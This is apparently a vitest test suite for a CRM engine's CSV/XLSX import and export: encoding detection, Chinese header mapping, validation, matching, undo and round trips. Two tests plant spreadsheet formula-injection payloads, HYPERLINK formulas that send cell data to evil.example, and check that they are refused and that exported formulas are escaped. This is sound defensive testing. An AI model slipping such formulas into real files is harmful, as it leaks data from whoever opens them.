// Import and export against a real engine on PostgreSQL, with real files: a GBK CSV as Chinese Excel writes it,
// an XLSX written by exceljs, every bad file, matching and updating, undo, and the round trip.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { createTestDatabase, Engine, loadCoreEntities, type TestDatabase } from '@touchpoint/engine';
import { isTouchpointError } from '@touchpoint/schema';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  exportRecords,
  getJob,
  type ImportOptions,
  importRecords,
  parseDate,
  parseDateTime,
  parseMoney,
  parseNumber,
  suggestMapping,
  undoImport,
} from '../src/index.ts';

const CORE_SCHEMAS = fileURLToPath(new URL('../../../schemas/entities', import.meta.url));
const ctx = { workspace: 'default', actor: 'importer' };

let database: TestDatabase;
let engine: Engine;
let dir: string;

beforeAll(async () => {
  database = await createTestDatabase('tp_transfer');
  engine = await Engine.start({
    databaseUrl: database.url,
    dataDir: database.dataDir,
    coreEntities: loadCoreEntities(CORE_SCHEMAS),
    poolSize: 6,
  });
  dir = mkdtempSync(join(tmpdir(), 'tp-transfer-'));
}, 120_000);

afterAll(async () => {
  await engine?.close();
  await database?.drop();
  rmSync(dir, { recursive: true, force: true });
});

function file(name: string, content: string | Buffer): string {
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
}

async function accounts(filter: Record<string, unknown> = {}) {
  const result = await engine.records(ctx).list({
    entity: 'account',
    filter,
    first: 500,
    orderBy: [{ field: 'name', direction: 'asc' }],
    selection: {
      fields: [
        'id',
        'name',
        'email',
        'phone',
        'city',
        'industry',
        'type',
        'employees',
        'annualRevenue',
        'customerSince',
      ],
      relations: [],
    },
  });
  return result.nodes.map(({ __cursor, ...rest }) => rest);
}

async function expectRefusal(promise: Promise<unknown>, problem: string) {
  try {
    await promise;
  } catch (error) {
    expect(isTouchpointError(error)).toBe(true);
    expect((error as { details: { problem: string } }).details.problem).toBe(problem);
    return error as Error & { details: { messages: Record<string, string> } };
  }
  throw new Error(`expected the refusal ${problem}`);
}

describe('value conversion', () => {
  it('reads numbers, amounts, dates and date-times in their common written forms', () => {
    expect(parseNumber('1,234,567.89')).toBe('1234567.89');
    expect(parseNumber('１２，３４５')).toBe('12345');
    expect(parseNumber('(12.5)')).toBe('-12.5');
    expect(parseNumber('12,34')).toBeUndefined();
    expect(parseMoney('1,234.50 CNY')).toEqual({ amount: '1234.50', currency: 'CNY' });
    expect(parseMoney('USD 20')).toEqual({ amount: '20', currency: 'USD' });
    expect(parseMoney('¥8,000')).toEqual({ amount: '8000', currency: 'CNY' });
    expect(parseMoney('5000元')).toEqual({ amount: '5000', currency: 'CNY' });
    expect(parseMoney('300', 'EUR')).toEqual({ amount: '300', currency: 'EUR' });
    expect(parseMoney('300')).toBeUndefined();
    expect(parseMoney('12 XYZ')).toBeUndefined();
    expect(parseDate('2026/3/1')).toBe('2026-03-01');
    expect(parseDate('2026年3月1日')).toBe('2026-03-01');
    expect(parseDate('1.3.2026')).toBe('2026-03-01');
    expect(parseDate('3/1/2026')).toBe('2026-03-01');
    expect(parseDate('25/12/2026')).toBe('2026-12-25');
    expect(parseDate('2026-02-30')).toBeUndefined();
    expect(parseDateTime('2026-03-01 09:30', 'Asia/Shanghai')).toBe('2026-03-01T01:30:00.000Z');
    expect(parseDateTime('2026-03-01T09:30:00Z')).toBe('2026-03-01T09:30:00.000Z');
    expect(parseDateTime('2026/3/1 9:30:15')).toBe('2026-03-01T09:30:15.000Z');
  });
});

describe('import', () => {
  it('reads a GBK CSV from Chinese Excel: detects the encoding, maps Chinese headers, converts Chinese labels', async () => {
    const csv = [
      '客户名称,电子邮箱,电话,城市,行业,类型,员工人数,年营业额,成为客户日期',
      '济南重工机械有限公司,sales@jnzg.cn,0531-8888 6666,济南,制造业,客户,"1,200","1,500,000.00 CNY",2024/5/1',
      '青岛海洋科技,info@qdhy.cn,+86 532 8000 1234,青岛,信息技术,潜在客户,85,￥2000000,2025年1月15日',
    ].join('\r\n');
    const path = file('gbk.csv', iconv.encode(csv, 'gbk'));
    // Header labels in Chinese name the fields (客户名称 → name, 行业 → industry, …).
    const report = await importRecords(engine, ctx, { entity: 'account', file: path, dryRun: true });
    expect(report.encoding).toBe('gb18030');
    expect(report.mapping.map((m) => m.field)).toEqual([
      'name',
      'email',
      'phone',
      'city',
      'industry',
      'type',
      'employees',
      'annualRevenue',
      'customerSince',
    ]);
    expect(report).toMatchObject({ status: 'checked', rows: 2, created: 2, refused: 0, problems: [] });
    expect(await accounts()).toEqual([]); // a dry run writes nothing

    const done = await importRecords(engine, ctx, { entity: 'account', file: path });
    expect(done).toMatchObject({ status: 'done', rows: 2, created: 2, updated: 0 });
    const rows = await accounts();
    expect(rows).toMatchObject([
      {
        name: '济南重工机械有限公司',
        industry: 'manufacturing',
        type: 'customer',
        employees: 1200,
        annualRevenue: { amount: '1500000.00', currency: 'CNY' },
        customerSince: '2024-05-01',
        phone: '0531-8888 6666',
      },
      { name: '青岛海洋科技', industry: 'technology', type: 'prospect', customerSince: '2025-01-15' },
    ]);
    // The audit log says it came through an import.
    const audit = await engine.db.query<{ channel: string; n: string }>(
      `select channel, count(*) as n from touchpoint.audit_log where entity = 'account' and action = 'record.created' group by channel`,
    );
    expect(audit).toEqual([{ channel: 'import', n: '2' }]);
    const job = await getJob(engine, 'default', done.jobId!);
    expect(job).toMatchObject({ status: 'done', created: 2, entity: 'account', actor: 'importer' });

    const undone = await undoImport(engine, ctx, done.jobId!);
    expect(undone).toEqual({ jobId: done.jobId, deleted: 2, reverted: 0 });
    expect(await accounts()).toEqual([]);
    await expectRefusal(undoImport(engine, ctx, done.jobId!), 'import.notUndoable');
  });

  it('reports every row problem by column in the dry run, and refuses the import (nothing written) unless told to skip them', async () => {
    const csv = [
      'Account name,Email,Industry,Employees,Annual revenue,Customer since,Parent account',
      'Good Co,good@x.cn,Retail,10,100 CNY,2026-01-02,',
      ',nobody@x.cn,Retail,1,,,',
      'Bad Values,not-an-email,Spaceflight,ten,12 XYZ,2026-13-01,',
      'Injected,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",Retail,1,,,',
      'Orphan,orphan@x.cn,Retail,1,,,No Such Parent',
    ].join('\n');
    const path = file('problems.csv', csv);
    const report = await importRecords(engine, ctx, { entity: 'account', file: path, dryRun: true });
    expect(report.status).toBe('checked');
    expect(report.rows).toBe(5);
    expect(report.refused).toBe(4);
    expect(report.problems.map((p) => [p.row, p.column, p.code])).toEqual([
      [4, 'Email', 'invalid'],
      [4, 'Industry', 'option'],
      [4, 'Employees', 'number'],
      [4, 'Annual revenue', 'currency'],
      [4, 'Customer since', 'date'],
      [5, 'Email', 'formula'],
      [6, 'Parent account', 'lookupNone'],
      [3, 'Account name', 'required'],
    ]);
    const industry = report.problems.find((p) => p.code === 'option')!;
    expect(industry.message.en).toContain('"Spaceflight" is not an option; allowed: manufacturing');
    expect(industry.message['zh-CN']).toContain('“Spaceflight”不是可选项');

    const refused = await importRecords(engine, ctx, { entity: 'account', file: path });
    expect(refused).toMatchObject({ status: 'refused', jobId: null, refused: 4 });
    expect(await accounts()).toEqual([]);

    const partial = await importRecords(engine, ctx, { entity: 'account', file: path, skipInvalid: true });
    expect(partial).toMatchObject({ status: 'done', created: 1, refused: 4 });
    expect((await accounts()).map((a) => a.name)).toEqual(['Good Co']);
    await undoImport(engine, ctx, partial.jobId!);
  });

  it('matches existing records by a key (email, phone key, name + city) and updates or skips them; undo reverts', async () => {
    const records = engine.records(ctx);
    const parent = await records.create('account', { name: 'Holding Group', city: 'Beijing' });
    const a = await records.create('account', {
      name: 'Alpha',
      email: 'Alpha@X.cn',
      phone: '+86 531 8888 0001',
      city: 'Jinan',
      employees: 5,
    });
    const before = await accounts({ id: { eq: a.id } });
    const csv = [
      'name,email,phone,city,employees,parentAccount',
      'Alpha,alpha@x.cn,0531-88880001,Jinan,50,Holding Group',
      'Beta,beta@x.cn,13900000002,Qingdao,7,',
    ].join('\n');
    const path = file('match.csv', csv);

    const byEmail = await importRecords(engine, ctx, { entity: 'account', file: path, match: ['email'], dryRun: true });
    expect(byEmail).toMatchObject({ created: 1, updated: 1, refused: 0 });
    const byPhone = await importRecords(engine, ctx, { entity: 'account', file: path, match: ['phone'], dryRun: true });
    expect(byPhone).toMatchObject({ created: 1, updated: 1 });
    const byNameCity = await importRecords(engine, ctx, {
      entity: 'account',
      file: path,
      match: ['name', 'city'],
      onMatch: 'skip',
      dryRun: true,
    });
    expect(byNameCity).toMatchObject({ created: 1, updated: 0, skipped: 1 });

    const done = await importRecords(engine, ctx, { entity: 'account', file: path, match: ['phone'] });
    expect(done).toMatchObject({ status: 'done', created: 1, updated: 1 });
    const alpha = await engine
      .records(ctx)
      .get('account', a.id, { fields: ['employees', 'email', 'parentAccountId'], relations: [] });
    expect(alpha).toMatchObject({ employees: 50, email: 'alpha@x.cn', parentAccountId: parent.id });

    await undoImport(engine, ctx, done.jobId!);
    expect(await accounts({ id: { eq: a.id } })).toEqual(before);
    expect((await accounts()).map((r) => r.name)).toEqual(['Alpha', 'Holding Group']);
    const reverted = await engine.records(ctx).get('account', a.id, { fields: ['parentAccountId'], relations: [] });
    expect(reverted).toMatchObject({ parentAccountId: null });
    await records.delete('account', a.id);
    await records.delete('account', parent.id);
  });

  it('refuses two rows of the file with the same key, and a key that matches several records', async () => {
    const records = engine.records(ctx);
    const twins = await records.createMany('account', [
      { name: 'Twin', city: 'Xi’an' },
      { name: 'Twin', city: 'Xi’an' },
    ]);
    const path = file('dupes.csv', 'name,city,employees\nTwin,Xi’an,1\nSolo,Wuhan,2\nSolo,wuhan,3\n');
    const report = await importRecords(engine, ctx, {
      entity: 'account',
      file: path,
      match: ['name', 'city'],
      dryRun: true,
    });
    expect(report.problems.map((p) => [p.row, p.code, p.params])).toEqual([
      [2, 'matchMany', { value: 'twin + xi’an', count: 2 }],
      [4, 'duplicateInFile', { value: 'solo + wuhan', row: 3 }],
    ]);
    for (const t of twins) await records.delete('account', t.id);
  });

  it('refuses bad files with a clear error and changes nothing', async () => {
    const latin = file('latin1.csv', Buffer.from('name,city\nCaf\xe9 M\xfcller,K\xf6ln\n', 'latin1'));
    const e1 = await expectRefusal(importRecords(engine, ctx, { entity: 'account', file: latin }), 'file.encoding');
    expect(e1.details.messages['zh-CN']).toContain('GBK');
    const gbk = file('gbk-as-utf8.csv', iconv.encode('客户名称,城市\n济南公司,济南\n', 'gbk'));
    await expectRefusal(
      importRecords(engine, ctx, { entity: 'account', file: gbk, encoding: 'utf-8' }),
      'file.notUtf8',
    );
    const noName = file('noname.csv', 'email,city\na@x.cn,Jinan\n');
    const e3 = await expectRefusal(
      importRecords(engine, ctx, { entity: 'account', file: noName }),
      'mapping.requiredMissing',
    );
    expect(e3.message).toContain('name');
    const big = file('big.csv', `name\n${'x\n'.repeat(600)}`);
    await expectRefusal(importRecords(engine, ctx, { entity: 'account', file: big, maxBytes: 1000 }), 'file.tooLarge');
    await expectRefusal(importRecords(engine, ctx, { entity: 'account', file: file('x.pdf', '%PDF') }), 'file.format');
    await expectRefusal(importRecords(engine, ctx, { entity: 'account', file: file('empty.csv', '') }), 'file.empty');
    await expectRefusal(
      importRecords(engine, ctx, { entity: 'account', file: file('fake.xlsx', 'name\nnot a zip\n') }),
      'file.xlsx',
    );
    await expectRefusal(
      importRecords(engine, ctx, { entity: 'account', file: file('m.csv', 'name\nA\n'), match: ['website'] }),
      'match.unknownKey',
    );
    expect(await accounts()).toEqual([]);
  });

  it('reads XLSX (dates, numbers, formulas refused), and a round trip import → export gives the input back', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Accounts');
    sheet.addRow(['Account name', 'City', 'Industry', 'Employees', 'Customer since', 'Annual revenue']);
    sheet.addRow(['Round Trip 1', 'Jinan', 'Manufacturing', 120, new Date(Date.UTC(2024, 4, 1)), '1000.00 CNY']);
    sheet.addRow(['Round Trip 2', 'Qingdao', 'Retail', 3, new Date(Date.UTC(2025, 0, 15)), '25.50 USD']);
    const path = join(dir, 'in.xlsx');
    await workbook.xlsx.writeFile(path);
    const done = await importRecords(engine, ctx, { entity: 'account', file: path });
    expect(done).toMatchObject({ status: 'done', created: 2, format: 'xlsx' });

    const columns = ['name', 'city', 'industry', 'employees', 'customerSince', 'annualRevenue'];
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    const result = await exportRecords(engine, ctx, out, {
      entity: 'account',
      format: 'csv',
      columns,
      orderBy: [{ field: 'name', direction: 'asc' }],
    });
    expect(result.rows).toBe(2);
    const text = Buffer.concat(chunks).toString('utf8');
    expect(text.startsWith('\ufeff')).toBe(true);
    expect(text.slice(1).split('\r\n').filter(Boolean)).toEqual([
      'Account name,City,Industry,Employees,Customer since,Annual revenue',
      'Round Trip 1,Jinan,Manufacturing,120,2024-05-01,1000.00 CNY',
      'Round Trip 2,Qingdao,Retail,3,2025-01-15,25.50 USD',
    ]);
    // Export as XLSX and import that again, matching by name: nothing changes, no problem.
    const xlsxPath = join(dir, 'out.xlsx');
    const { createWriteStream } = await import('node:fs');
    await exportRecords(engine, ctx, createWriteStream(xlsxPath), { entity: 'account', format: 'xlsx', columns });
    const again = await importRecords(engine, ctx, {
      entity: 'account',
      file: xlsxPath,
      match: ['name'],
      dryRun: true,
    });
    expect(again).toMatchObject({ rows: 2, updated: 2, created: 0, refused: 0 });

    const formula = new ExcelJS.Workbook();
    const fs = formula.addWorksheet('x');
    fs.addRow(['name']);
    fs.addRow([{ formula: 'HYPERLINK("http://evil.example","x")', result: 'x' }]);
    const fpath = join(dir, 'formula.xlsx');
    await formula.xlsx.writeFile(fpath);
    const refused = await importRecords(engine, ctx, { entity: 'account', file: fpath });
    expect(refused.status).toBe('refused');
    expect(refused.problems[0]).toMatchObject({ row: 2, code: 'formula' });
    await undoImport(engine, ctx, done.jobId!);
  });

  it('neutralises formula-like cells on export, and reads them back as the text they were', async () => {
    const records = engine.records(ctx);
    const r = await records.create('account', { name: '=1+2', description: '@SUM(A1)', city: '-Jinan' });
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    await exportRecords(engine, ctx, out, {
      entity: 'account',
      format: 'csv',
      columns: ['name', 'city', 'description'],
    });
    const text = Buffer.concat(chunks).toString('utf8');
    expect(text).toContain("'=1+2,'-Jinan,'@SUM(A1)");
    const back = file('neutral.csv', text);
    const report = await importRecords(engine, ctx, { entity: 'account', file: back, match: ['name'], dryRun: true });
    expect(report).toMatchObject({ updated: 1, refused: 0 });
    await records.delete('account', r.id);
  });

  it('suggests a mapping from English and Chinese labels and field names', async () => {
    const { entity } = await engine.records(ctx).entity('account');
    expect(suggestMapping(entity, ['客户名称', 'E-mail', 'annual_revenue', 'Parent account', '???'])).toEqual([
      { column: '客户名称', field: 'name' },
      { column: 'E-mail', field: 'email' },
      { column: 'annual_revenue', field: 'annualRevenue' },
      { column: 'Parent account', field: 'parentAccount' },
    ]);
  });

  it('can be cancelled between batches; what was written can be undone', async () => {
    const lines = ['name'];
    for (let i = 0; i < 30; i++) lines.push(`Cancel ${String(i).padStart(2, '0')}`);
    const path = file('cancel.csv', lines.join('\n'));
    const controller = new AbortController();
    const options: ImportOptions = {
      entity: 'account',
      file: path,
      batchSize: 10,
      concurrency: 1,
      signal: controller.signal,
      onProgress: (p) => {
        if (p.phase === 'write' && p.created >= 10) controller.abort();
      },
    };
    const report = await importRecords(engine, ctx, options);
    expect(report).toMatchObject({ status: 'cancelled', created: 10 });
    expect((await accounts({ name: { startsWith: 'Cancel' } })).length).toBe(10);
    expect(await undoImport(engine, ctx, report.jobId!)).toMatchObject({ deleted: 10 });
    expect(await accounts({ name: { startsWith: 'Cancel' } })).toEqual([]);
  });
});
